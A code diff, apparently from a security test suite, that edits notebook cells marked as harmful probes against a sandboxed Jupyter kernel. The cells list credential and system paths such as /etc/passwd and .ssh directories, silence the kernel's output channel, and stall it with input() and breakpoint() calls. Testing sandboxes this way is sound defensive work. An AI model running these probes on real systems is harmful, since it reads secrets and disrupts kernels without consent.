@@ -512,7 +512,7 @@ for _path in [
     "/etc/passwd",
     "/etc/hostname",
     *glob.glob("/*/.ssh"),
-    *glob.glob("/root/*"),
+    *glob.glob("/root/*"),  # the superuser's home on every Linux
     *glob.glob("/var/*"),
     *glob.glob("/home/*/.*"),
 ]:
@@ -966,15 +966,19 @@ _send = _kernel.session.send
 _kernel.session.send = lambda *arguments, **options: None
 
 # %% id="asks_for_input" aim="harm"
-# Which error ends either call is the kernel's affair, BdbQuit or StdinNotImplementedError: the attack is that it waits.
+from bdb import BdbQuit
+
+from IPython.core.error import StdinNotImplementedError
+
+# The kernel refuses either call, which error it takes for that is its affair: the attack is that it waits.
 try:
     input("password: ")
     leak("input was answered")
-except Exception as error:
+except (StdinNotImplementedError, EOFError) as error:
     print(type(error).__name__)
 try:
     breakpoint()
-except BaseException as error:
+except (StdinNotImplementedError, EOFError, BdbQuit) as error:
     print(type(error).__name__)
 
 # %% id="payload_writes_the_next_cell" aim="harm"
